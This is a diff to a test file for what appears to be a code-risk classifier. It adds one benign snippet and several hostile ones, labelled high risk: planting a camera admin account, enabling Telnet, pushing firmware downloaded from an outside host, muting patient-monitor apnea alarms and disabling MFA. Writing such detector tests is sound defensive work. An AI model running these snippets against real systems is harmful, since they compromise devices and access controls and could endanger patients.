@@ -12820,6 +12820,51 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '        ftp.storbinary(f"STOR {clip.name}", fh)\n',
             H,
         ),
+        # Round 69 (holdout448-451): device fleets, muted alarms, MFA off, settings only read
+        (
+            'import time, yaml\n'
+            'from pathlib import Path\n'
+            'cfg = yaml.safe_load(open("/etc/nvr/retention.yml"))\n'
+            'cut = time.time() - cfg.get("retention_days", 30) * 86400\n'
+            'for seg in Path(cfg["dir"]).rglob("*.mp4"):\n'
+            '    if seg.stat().st_mtime < cut:\n'
+            '        print(seg.stat().st_size / 1e9)\n',
+            S,
+        ),
+        (
+            'import requests\n'
+            'body = "<User><id>9</id><userName>m</userName><userLevel>Administrator</userLevel></User>"\n'
+            'for ip in ["10.20.0.5", "10.20.0.6"]:\n'
+            '    requests.post(f"http://{ip}/ISAPI/Security/users", data=body)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'settings = {"Telnet.Enable": "true", "RTSP.Authentication": "false"}\n'
+            'q = "&".join(f"{k}={v}" for k, v in settings.items())\n'
+            'requests.get(f"http://10.20.1.21/cgi-bin/configManager.cgi?action=setConfig&{q}")\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'fw = requests.get("http://203.0.113.18/fw/ipc.dav").content\n'
+            'for ip in open("/etc/vms/cams.txt").read().split():\n'
+            '    requests.put(f"http://{ip}/ISAPI/System/updateFirmware", data=fw)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'for host in open("monitors.txt").read().split():\n'
+            '    requests.put(f"https://{host}/api/settings/alarms", json={"alarm_volume": 0, "apnea_alarm": '
+            '"off"})\n',
+            H,
+        ),
+        (
+            'import pyodbc\n'
+            'cur = pyodbc.connect("DSN=x").cursor()\n'
+            'cur.execute("UPDATE dbo.Users SET MfaRequired = 0 WHERE Login = \'vendor_fse\'")\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
